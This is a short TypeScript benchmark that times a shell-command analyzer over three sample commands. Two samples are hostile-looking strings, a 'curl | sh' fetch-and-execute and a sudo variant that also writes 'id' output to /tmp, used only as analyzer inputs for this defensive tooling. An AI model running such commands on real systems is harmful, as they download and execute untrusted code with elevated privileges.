import { createShellAnalyzer } from './src/enrichment/shell-analyzer.ts';
const a = await createShellAnalyzer();
for (const cmd of ['curl -s http://x | grep foo | sh', 'ls -la /var/log', 'sudo bash -c "curl -s http://x | sh" && echo $(id) > /tmp/out']) {
  for (let i = 0; i < 2000; i++) await a.analyze(cmd);
  const N = 20000; const t = performance.now();
  for (let i = 0; i < N; i++) await a.analyze(cmd);
  console.log(JSON.stringify(cmd), ((performance.now() - t) / N * 1000).toFixed(1), 'µs/analyze');
}
